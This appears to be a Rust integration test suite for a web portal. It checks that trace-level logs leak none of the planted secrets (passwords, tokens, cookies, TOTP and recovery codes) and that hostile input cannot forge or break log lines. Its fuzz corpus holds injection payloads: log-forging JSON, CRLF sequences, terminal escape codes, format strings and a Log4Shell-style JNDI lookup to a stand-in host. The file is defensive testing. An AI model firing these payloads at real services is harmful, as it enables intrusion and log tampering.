//! The log at TRACE level: for any input, each line is one JSON object without secrets (security
//! A17, ASVS 16.2.5, 16.4.1, 14.2.1).

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;
use std::thread::sleep;
use std::time::Duration;

use backend::Clock;
use backend::testing::{PASSWORD, TestPortal, authenticator};
use percent_encoding::{NON_ALPHANUMERIC, percent_encode};
use serde_json::{Value, json};

use crate::failures::{bearer, collect_log, login, parsed, settings_of, start_under, token_of};
use crate::workspace::{HttpRequest, HttpResponse, Workspace};

const LOGIN: &str = "/api/auth/login";
const FACTOR: &str = "/v1/users/me/second-factors/totp";
const NIELS: &str = "123456789012345678";

/// Secrets that must never be in a log.
#[derive(Default)]
struct Canaries(BTreeSet<String>);

impl Canaries {
    fn plant<'a>(&mut self, secret: &'a str) -> &'a str {
        assert!(secret.len() >= 6, "{secret} is found anywhere");
        self.0.insert(secret.to_owned());
        secret
    }

    fn plant_cookies(&mut self, result: &HttpResponse) -> String {
        let mut cookies = Vec::new();
        for line in result.head.lines() {
            let cookie = line.strip_prefix("set-cookie: ");
            let cookie = cookie.and_then(|cookie| cookie.split(';').next());
            if let Some((name, value)) = cookie.and_then(|cookie| cookie.split_once('='))
                && !value.is_empty()
            {
                cookies.push(format!("{name}={}", self.plant(value)));
            }
        }
        cookies.join("; ")
    }
}

fn text<'a>(value: &'a Value, name: &str) -> &'a str {
    value[name]
        .as_str()
        .unwrap_or_else(|| panic!("no {name} in {value}"))
}

/// Actions of people and programs that record every secret they use.
struct ScenarioActions {
    address: String,
    canaries: Canaries,
    key: String,
}

impl ScenarioActions {
    fn ask(&self, ask: &HttpRequest<'_>) -> HttpResponse {
        ask.of(&self.address).unwrap()
    }

    /// Uses passwords, right and wrong, also in wrong fields. Returns the token of a program.
    fn passwords(&mut self) -> String {
        self.canaries.plant(PASSWORD);
        self.canaries.plant("canary-password-as-a-name");
        for (identifier, password) in [
            ("alice", "canary-wrong-password"),
            ("canary-password-as-a-name", "canary-password-of-nobody"),
        ] {
            self.canaries.plant(password);
            let body = json!({ "identifier": identifier, "password": password });
            assert!(self.ask(&HttpRequest::post(LOGIN, body)).status >= 400);
        }
        let result = self.ask(&login("alice"));
        self.canaries.plant_cookies(&result);
        let token = token_of(&result);
        self.canaries.plant(&token).to_owned()
    }

    /// Uses codes of both kinds, keys, cookies and links.
    fn codes(&mut self) {
        let key = self.key.clone();
        self.canaries.plant(&key);
        let as_bot = |path: &'static str| {
            let person = json!({
                "platform": "discord",
                "platform_user_id": NIELS,
                "platform_username": "niels",
                "platform_avatar_url": "",
            });
            HttpRequest::post(path, person).with("X-API-Key", &key)
        };
        let request = json!({ "platform": "discord", "platform_user_id": NIELS });
        let request_status = self.ask(&HttpRequest::post("/v1/authentication/request", request));
        assert_eq!(request_status.status, 200);
        let carried = self
            .ask(&as_bot("/v1/authentication/bot/login-code"))
            .json();
        let code = text(&carried, "code");
        let disown = text(&carried["pending"][0], "not_me_url");
        self.canaries.plant(code);
        self.canaries
            .plant(disown.rsplit(['=', '/']).next().unwrap());
        self.canaries.plant("Canary99");
        for code in ["Canary99", code] {
            let verify = HttpRequest::post("/v1/authentication/verify", json!({ "code": code }));
            let result = self.ask(&verify);
            let cookies = self.canaries.plant_cookies(&result);
            for path in ["/account", "/v1/users/me"] {
                let looked = self.ask(&HttpRequest::get(path).with("Cookie", &cookies));
                assert_eq!(looked.status == 200, result.status == 200, "{looked:?}");
            }
        }
        let sent = self.ask(&as_bot("/v1/authentication/bot/send-code")).json();
        self.canaries.plant(text(&sent, "code"));
    }

    /// Puts secrets where they don't belong, such as URLs.
    fn misplaced(&mut self) {
        for planted in [
            "hsession=canary-cookie-value",
            "__Host-hsession_act=canary-companion",
        ] {
            self.canaries.plant(planted.split_once('=').unwrap().1);
            self.ask(&HttpRequest::get("/v1/users/me").with("Cookie", planted));
        }
        for path in [
            "/setup?token=canary-in-an-address",
            "/v1/bot/me?api_key=hbot_canary-key-in-an-address",
            "/not-me?token=canary-of-not-me",
            "/recover/canary-of-a-reset",
            "/email/canary-of-an-address",
            "/login?return_to=/canary-return",
        ] {
            self.canaries.plant(path.rsplit(['=', '/']).next().unwrap());
            self.ask(&HttpRequest::get(path));
        }
    }

    fn second_factors(&mut self, token: &str) {
        let mine = |path, body| bearer(HttpRequest::post(path, body), token);
        let offer = self.ask(&mine(FACTOR, json!({}))).json();
        let secret = self.canaries.plant(text(&offer, "secret")).to_owned();
        let shown = authenticator(&secret, Clock::System.now());
        let confirm = json!({ "code": shown.reveal() });
        let on = self
            .ask(&mine("/v1/users/me/second-factors/totp/confirm", confirm))
            .json();
        let recovery_codes = on["recovery_codes"].as_array().unwrap();
        for code in recovery_codes {
            self.canaries.plant(code.as_str().unwrap());
        }
        let result = self.ask(&login("alice"));
        assert_eq!(result.status, 428);
        self.canaries
            .plant(text(&result.json()["data"], "challenge"));
        let recovery_code = recovery_codes[0].as_str().unwrap();
        for (factor, status) in [("918273", 428), (recovery_code, 200)] {
            let mut login = login("alice");
            let body = login.body.as_mut().unwrap();
            body["twofa_token"] = self.canaries.plant(factor).into();
            assert_eq!(self.ask(&login).status, status);
        }
    }

    /// Uses email addresses, and the links in mails.
    fn letters(&mut self, token: &str, folder: &Path) {
        self.canaries.plant("canary@mail.example");
        let address = json!({ "email": "canary@mail.example" });
        let result = self.ask(&bearer(
            HttpRequest::post("/v1/users/me/email", address),
            token,
        ));
        assert_eq!(result.status, 200, "{result:?}");
        let link = (0..100).find_map(|_| {
            sleep(Duration::from_millis(100));
            fs::read_dir(folder).ok()?.find_map(|entry| {
                let letter = fs::read_to_string(entry.unwrap().path()).unwrap();
                let letter = letter.replace("=\r\n", "");
                let (_, link) = letter.split_once("/email/")?;
                let end = link.find(|c: char| !c.is_ascii_alphanumeric() && !"-_".contains(c))?;
                Some(link[..end].to_owned())
            })
        });
        self.canaries.plant(&link.expect("a letter with a link"));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn asvs_16_2_5_no_secret_is_logged_even_at_trace_level() {
    let portal = TestPortal::on_sqlite().await;
    portal.owner("alice").await;
    let key = portal.register("a bot", "discord", "alice").await;
    let workspace = Workspace::new();
    let mut settings = settings_of(&portal);
    let mail = workspace.path().join("mail");
    settings.push(("PORTAL_MAIL_DIR", mail.display().to_string()));
    settings.push(("PORTAL_LOG", "trace".to_owned()));
    let mut process = start_under(&[], &workspace, &settings);
    let log = collect_log(&mut process);
    let mut doings = ScenarioActions {
        address: process.address.clone(),
        canaries: Canaries::default(),
        key: key.reveal().to_owned(),
    };
    let token = doings.passwords();
    doings.codes();
    doings.misplaced();
    doings.letters(&token, &mail);
    doings.second_factors(&token);
    assert!(process.stop_without_log());

    let log = log.join().unwrap();
    // The statements of the database among them: nothing below says more.
    assert!(parsed(&log).iter().any(|line| line["level"] == "DEBUG"));
    let canaries = doings.canaries.0;
    assert!(canaries.len() >= 35, "only {} were planted", canaries.len());
    for canary in &canaries {
        let line = log.lines().find(|line| line.contains(canary.as_str()));
        assert_eq!(line, None, "{canary}");
    }
    eprintln!(
        "{} secrets, {} lines, none found",
        canaries.len(),
        log.lines().count()
    );
}

/// Security A17: sends the corpus in every field that could reach a log line.
#[test]
fn a17_every_log_line_is_one_json_object_for_any_input() {
    let workspace = Workspace::new();
    let settings = vec![
        ("PORTAL_LOG", "trace".to_owned()),
        ("PORTAL_TRUSTED_PROXIES", "127.0.0.1".to_owned()),
        ("PORTAL_LOGIN_LIMIT", "0".to_owned()),
        ("PORTAL_PUBLIC_LIMIT", "0".to_owned()),
    ];
    let mut process = start_under(&[], &workspace, &settings);
    let log = collect_log(&mut process);
    let corpus = [
        "\" , \"level\":\"ERROR\", \"forged\":\"yes",
        "}\\n{\"forged\":true}",
        "%0d%0a{\"forged\":true}",
        "\u{1b}[31mred\u{1b}[0m \u{1b}]0;title\u{7}",
        "\u{2028}\u{2029}\u{202e}\u{feff}",
        "%s%n%p ${jndi:ldap://evil.test/a} {{7*7}}",
        "\\u0000\\x1b\\",
        "\u{9b}31m\u{85}",
        "é漢字🙂",
        &"A".repeat(20_000),
    ];
    for text in corpus {
        let for_header: String = text.chars().filter(|c| !c.is_control()).collect();
        let for_path = percent_encode(text.as_bytes(), NON_ALPHANUMERIC).to_string();
        let paths = [
            format!("/{for_path}"),
            format!("/v1/{for_path}"),
            format!("/login?error={for_path}&return_to={for_path}"),
        ];
        for path in &paths {
            // What is no HTTP at all may be left without an answer.
            drop(HttpRequest::get(path).of(&process.address));
        }
        for header in [
            "User-Agent",
            "X-Forwarded-For",
            "Origin",
            "Referer",
            "Cookie",
            "Accept-Language",
            "X-API-Key",
            "Authorization",
            "X-Request-Id",
            "Last-Event-ID",
        ] {
            drop(
                HttpRequest::get("/v1/bot/me")
                    .with(header, &for_header)
                    .of(&process.address),
            );
            drop(
                HttpRequest::get("/login")
                    .with(header, &for_header)
                    .of(&process.address),
            );
            // As it is, where a header can't have it.
            drop(
                HttpRequest::get("/login")
                    .with(header, text)
                    .of(&process.address),
            );
        }
        for (path, body) in [
            (LOGIN, json!({ "identifier": text, "password": text })),
            (
                "/v1/authentication/verify",
                json!({ "code": text, text: text }),
            ),
            (
                "/v1/authentication/request",
                json!({ "platform": text, "platform_user_id": text }),
            ),
            ("/v1/authentication/request", json!({ "username": text })),
        ] {
            drop(HttpRequest::post(path, body).of(&process.address));
        }
    }
    assert!(process.stop_without_log());
    let log = log.join().unwrap();
    let lines = parsed(&log);
    assert!(lines.len() > 300);
    for (line, raw) in lines.iter().zip(log.lines()) {
        assert!(line.get("forged").is_none(), "{raw}");
        assert!(!raw.chars().any(char::is_control), "{raw}");
        // What Portal itself says; below come the statements of migrations.
        if line["level"] != "TRACE" && line["level"] != "DEBUG" {
            assert!(raw.len() <= 4096, "{raw}");
        }
    }
}
